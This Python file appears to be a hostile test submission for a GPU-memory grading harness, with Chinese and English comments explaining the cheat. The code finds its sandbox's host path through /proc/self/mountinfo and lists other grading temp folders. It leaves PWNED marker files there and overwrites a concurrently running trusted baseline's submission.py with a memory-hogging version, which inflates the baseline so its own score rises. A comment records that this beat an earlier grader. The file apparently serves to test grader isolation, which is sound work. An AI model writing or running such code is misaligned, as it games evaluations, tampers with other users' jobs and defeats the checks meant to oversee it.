# expect: forbidden|starter|exception
# 别的评分的临时目录：列出评分临时根目录（本评分目录的上一级；沙箱里从 /proc/self/mountinfo 的挂载源路径
# 推出来）和 /tmp 里的 vramlab-grade-* 目录。
# 真正的作弊：同一次评分里可信的起始代码（job.json 里 "reference": true）和我同时启动，把它的
# work/submission.py 换成多占 256 MiB 的版本，基线峰值变高，我的比例就降下来。覆盖只针对本评分
# 临时根目录下、模型和 batch 与我相同的基线；此外在兄弟目录和临时根目录里留 PWNED_by_hostile.txt，
# 测试检查临时根目录里没有留下任何东西。用目录描述符写（审计钩子按工作目录解析相对路径）。
# List the other gradings' temp folders and write into them (the concurrent trusted baseline's code).
# 旧评分器（1b67139：进程内审计钩子 + HMAC 签名）上：攻破：文件写进了别的评分目录和临时根目录；不复用基线时，同时运行的可信基线被换成多占内存的代码，本提交满分。
import json
import os

import torch

HOG = '''import torch


def train_step(model, optimizer, batch, device):
    ballast = torch.ones(64 * 2 ** 20, device=device.torch_device)
    loss = model(input_ids=batch, labels=batch).loss
    loss.backward()
    optimizer.step()
    optimizer.zero_grad(set_to_none=True)
    return loss.item() + 0.0 * float(ballast[0])
'''
FLAGS = os.O_WRONLY | os.O_CREAT | os.O_TRUNC


def _write_at(folder, name, text):
    try:
        dfd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    except OSError:
        return
    try:
        fd = os.open(name, FLAGS, 0o644, dir_fd=dfd)
        os.write(fd, text.encode())
        os.close(fd)
    except OSError:
        pass
    finally:
        os.close(dfd)


def _job(folder):
    try:
        with open(os.path.join(folder, "job.json"), encoding="utf-8") as f:
            return json.load(f)
    except (OSError, ValueError):
        return {}


def _my_folder():
    """My grading's folder: the parent of my working directory, or the source of a mount that holds
    "vramlab-grade-" in /proc/self/mountinfo (a sandbox shows its bind mounts' host paths there)."""
    try:
        with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as f:
            for line in f:
                root = line.split()[3]
                i = root.find("vramlab-grade-")
                if i >= 0:
                    j = root.find("/", i)
                    return root if j < 0 else root[:j]
    except (OSError, IndexError):
        pass
    return os.path.dirname(os.getcwd())


def _attack():
    mine = _my_folder()
    own_root = os.path.dirname(mine)
    me = _job(mine) or _job(os.getcwd()) or _job(os.path.dirname(os.getcwd()))
    for root in dict.fromkeys([own_root, "/tmp", "/var/tmp", "/dev/shm"]):
        try:
            names = os.listdir(root)
        except OSError:
            continue
        _write_at(root, "PWNED_by_hostile.txt", "seen: " + ", ".join(sorted(names)[:20]))
        if root != own_root:
            continue
        for name in names:
            other = os.path.join(root, name)
            if other == mine or not name.startswith("vramlab-grade-") or not os.path.isdir(other):
                continue
            _write_at(other, "PWNED_by_hostile.txt", "was here")
            job = _job(other)
            same = all(job.get(k) == me.get(k) for k in ("model", "batch", "seq", "steps"))
            if job.get("reference") and same and os.path.isdir(os.path.join(other, "work")):
                _write_at(os.path.join(other, "work"), "submission.py", HOG)


_attack()         # at import: the baseline loads its code at the same stage as this module


def train_step(model, optimizer, batch, device):
    _attack()
    n = batch.shape[0]
    loss = sum(model(input_ids=c, labels=c).loss * (c.shape[0] / n) for c in batch.split(n // 2))
    loss.backward()
    optimizer.step()
    optimizer.zero_grad(set_to_none=True)
    return loss.item()
